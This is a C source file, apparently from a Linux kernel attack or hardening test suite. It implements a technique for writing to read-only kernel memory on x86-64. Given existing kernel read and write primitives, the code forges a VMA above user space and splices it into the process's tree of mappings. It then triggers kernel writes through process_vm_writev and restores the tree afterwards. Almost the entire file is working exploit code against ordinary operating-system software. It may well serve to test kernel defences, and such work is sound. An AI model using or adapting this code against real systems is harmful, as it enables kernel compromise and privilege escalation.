// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attack on what is found by its kernel address. The attacker's own list of
 * mappings gets one more, above user space, and the kernel writes to it for him:
 * nobody asks whether it is in user space when the kernel itself looks it up. So
 * what is read-only there is copied as after fork(), and the address maps the copy.
 */
#include <string.h>
#include <sys/mman.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"
#include "list.h"
#include "objects.h"

#ifdef __x86_64__
/* Nodes of the tree of mappings: parent, last addresses of entries, entries. */
#define TREE_SIZE	256	/* of mm_struct, that begins with it */
#define NODE_WORDS	32
#define NODE_ALIGN	256UL
#define NODE_TYPE(node)	((node) >> 3 & 15)
#define NODE_LEAF	1
#define NODE_INNER	3
#define IS_ROOT(word)	(((word) & 7) == 6)
#define ENTRIES_LEAF	16
#define ENTRIES_INNER	10

#define VM_LOCKED	0x2000UL	/* nobody looks for who maps it */
#define REFERENCES	8

static uint64_t find_root(uint64_t mm)
{
	uint64_t words[TREE_SIZE / sizeof(uint64_t)];
	size_t i;

	kread(mm, words, sizeof(words));
	for (i = 0; i < TREE_SIZE / sizeof(*words); i++)
		if (is_kernel_address(words[i]) && IS_ROOT(words[i]))
			return words[i];
	return 0;
}

/* Where a node says what is at an address. */
static uint64_t find_entry(uint64_t node, uint64_t addr)
{
	int entries = NODE_TYPE(node) == NODE_INNER ? ENTRIES_INNER : ENTRIES_LEAF, i;
	uint64_t words[NODE_WORDS];

	if (kread(node & -NODE_ALIGN, words, sizeof(words)))
		return 0;
	for (i = 1; i < entries && words[i] && words[i] < addr; i++)
		;
	return (node & -NODE_ALIGN) + (entries + i - 1) * sizeof(*words);
}

/* Where the tree has the mapping of a kernel address: none. */
static uint64_t find_empty_entry(uint64_t mm, uint64_t addr)
{
	uint64_t node = find_root(mm), entry;

	while (node && is_kernel_address(node)) {
		entry = find_entry(node, addr);
		if (NODE_TYPE(node) == NODE_LEAF)
			return kread64(entry) ? 0 : entry;
		node = kread64(entry);
	}
	return 0;
}

/* Like one of ours, but for where it is, and what an entry there may do. */
static uint64_t forge_vma(uint64_t addr)
{
	volatile char *page = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE,
				   MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	uint64_t words[VMA_SIZE / sizeof(uint64_t)], vma;
	struct kernel_page forged;

	page[0] = 1;
	vma = find_vma(page);
	if (!vma || kread(vma, words, sizeof(words)) || !kernel_page(&forged))
		return 0;
	words[0] = addr & -PAGE_SIZE;
	words[1] = words[0] + PAGE_SIZE;
	words[VMA_PROT / sizeof(*words)] = PTE_KERNEL_RW;
	words[VMA_FLAGS / sizeof(*words)] |= VM_LOCKED;
	return kwrite(forged.addr, words, sizeof(words)) ? 0 : forged.addr;
}

/* By a process with our mappings that can be killed: ours are to be put back. */
static void write_mapping(uint64_t addr, void *data, size_t len)
{
	struct iovec from = { data, len }, to = { (void *)addr, len };
	pid_t self = getpid(), pid = vfork();

	if (!pid) {
		process_vm_writev(self, &from, 1, &to, 1, 0);
		_exit(0);
	}
	waitpid(pid, NULL, 0);
}

/* The kernel gives up the page that it had there, and may free the copy. */
static bool write_by_fault(uint64_t addr, void *data, size_t len)
{
	uint64_t vma = forge_vma(addr), old = page_of(addr), entry;
	struct task task;

	if (!vma || !old || ktask(0, &task))
		return false;
	entry = find_empty_entry(task.mm, addr);
	if (!entry)
		return false;
	add_reference(old, REFERENCES);
	kwrite64(entry, vma);
	write_mapping(addr, data, len);
	kwrite64(entry, 0);
	add_reference(page_of(addr), REFERENCES);
	return true;
}

/* The kernel's list of what is to be patched is believed for where it is. */
enum outcome fault_kernel_address(void)
{
	struct slot slot;

	stay_on_cpu(0);
	if (kwalk(patched_entry(), LEAF, 0, &slot))
		return broken("the kernel has no list of what is to be patched");
	if (slot.level != LEVEL_PTE)
		return skipped("what is read-only is not mapped by pages");
	return patch_by_own_entry(write_by_fault);
}
#else
enum outcome fault_kernel_address(void)
{
	return skipped("a process has no tables of kernel addresses on this architecture");
}
#endif
